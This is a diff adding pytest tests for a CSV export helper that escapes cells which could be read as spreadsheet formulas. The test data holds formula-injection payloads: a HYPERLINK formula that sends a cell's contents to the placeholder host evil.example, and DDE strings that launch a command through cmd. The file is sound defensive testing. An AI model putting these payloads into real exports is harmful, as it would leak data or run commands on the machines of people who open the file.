@@ -1,0 +1,35 @@
+"""The one CSV writer: no text cell reaches a spreadsheet as a formula. Issue 12, item 4."""
+
+import csv
+import io
+from datetime import UTC, datetime
+
+import pytest
+
+from apps.core.csv_export import csv_lines, safe_cell
+
+
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        ('=HYPERLINK("https://evil.example/?"&A1,"Ver")', '\'=HYPERLINK("https://evil.example/?"&A1,"Ver")'),
+        ("+34 600 111 222", "'+34 600 111 222"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Ana = Bob", "Ana = Bob"),
+        ("", ""),
+        (None, ""),
+        (-5, -5),  # numbers we wrote ourselves stay numbers
+    ],
+)  # fmt: skip
+def test_cells_that_start_like_a_formula_get_an_apostrophe(value, cell):
+    assert safe_cell(value) == cell
+
+
+def test_every_row_and_the_header_go_through_the_same_escaping():
+    at = datetime(2026, 12, 1, 10, 0, tzinfo=UTC)
+    lines = csv_lines(["name", "=header"], [["=1+1", at], [None, 7]])
+    rows = list(csv.reader(io.StringIO("".join(lines))))
+    assert rows == [["name", "'=header"], ["'=1+1", "2026-12-01 10:00:00+00:00"], ["", "7"]]
